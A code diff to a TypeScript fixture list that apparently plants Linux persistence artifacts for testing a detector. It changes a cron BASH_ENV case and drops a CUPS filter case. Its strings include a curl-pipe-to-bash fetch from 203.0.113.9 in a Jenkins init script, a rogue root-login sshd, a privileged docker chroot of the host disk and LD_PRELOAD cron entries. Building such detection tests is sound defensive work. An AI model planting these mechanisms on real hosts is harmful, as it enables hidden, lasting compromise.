@@ -38,7 +38,10 @@ export const fifthStartUp: readonly Sign[] = [
 	file('runit', 'start-up', 'kept running by runit', '/etc/service/cache/run', '#!/bin/sh\nexec /usr/lib/.cache/cached 2>&1\n', run),
 	file('upstart', 'start-up', 'a job of upstart', '/etc/init/netd.conf', `start on runlevel [2345]\nrespawn\nscript\n  ${fetched}\nend script\n`),
 	cron('preload', 'a library in all jobs of a table', 'LD_PRELOAD=/usr/lib/libsystem.so\n0 5 * * * root run-parts /etc/cron.daily\n'),
-	cron('bash-env', 'a script before each job', 'SHELL=/bin/bash\nBASH_ENV=/var/lib/misc/env.sh\n0 5 * * * root /usr/bin/true\n'),
+	{ id: 'cron5-bash-env', family: 'start-up', what: 'a script before each job', plant: tree => {
+		tree.write('/etc/cron.d/r-bash-env', 'SHELL=/bin/bash\nBASH_ENV=/var/lib/misc/env.sh\n0 5 * * * root /usr/bin/true\n');
+		tree.write('/var/lib/misc/env.sh', 'PATH=/usr/bin:/bin\n');
+	}, names: ['/etc/cron.d/r-bash-env'], also: ['/var/lib/misc/env.sh'] },
 	cron('docker', 'the whole disk by way of a container', '@hourly root docker run --rm -v /:/m --privileged alpine chroot /m sh -c "id > /m/root/x"\n'),
 	cron('run-parts', 'all scripts of a folder of documents', '*/30 * * * * root run-parts /usr/share/doc/cron/jobs\n'),
 	cron('sshd', 'a second sshd, each five minutes', '*/5 * * * * root pgrep -f 22022 || /usr/sbin/sshd -p 22022 -o PermitRootLogin=yes -o AuthorizedKeysFile=/usr/share/misc/.k\n'),
@@ -84,7 +87,7 @@ export const fifthStartUp: readonly Sign[] = [
 	file('ufw-init', 'start-up', 'run with the firewall', '/etc/ufw/after.init', `#!/bin/sh\n${fetched}\n`, run),
 	file('etckeeper', 'start-up', 'run when /etc changes', '/etc/etckeeper/commit.d/90own', '#!/bin/sh\n/usr/lib/.ek/push &\n', run),
 	file('proftpd', 'start-up', 'run when somebody connects', '/etc/proftpd/conf.d/own.conf', 'LoadModule mod_exec.c\nExecEngine on\nExecOnConnect /var/tmp/.pc\n'),
-	file('cups-filter', 'start-up', 'a filter of no package for what is printed', '/usr/lib/cups/filter/pdftoraw', elf('filter'), run),
+	// A filter of CUPS of no package is not among these: makers of printers bring theirs so.
 	file('printcap', 'start-up', 'the same, in the old way', '/etc/printcap', 'lp|office:\\\n\t:lp=/dev/lp0:\\\n\t:if=/var/spool/lpd/.f:\\\n\t:sh:\n'),
 	file('jenkins', 'start-up', 'a script when Jenkins starts', '/var/lib/jenkins/init.groovy.d/net.groovy', '"bash -c {curl,-s,http://203.0.113.9/k}|bash".execute()\n'),
 	file('jenkins-job', 'start-up', 'a job of Jenkins', '/var/lib/jenkins/jobs/nightly/config.xml', `<project><builders><hudson.tasks.Shell><command>${fetched}</command></hudson.tasks.Shell></builders></project>\n`),
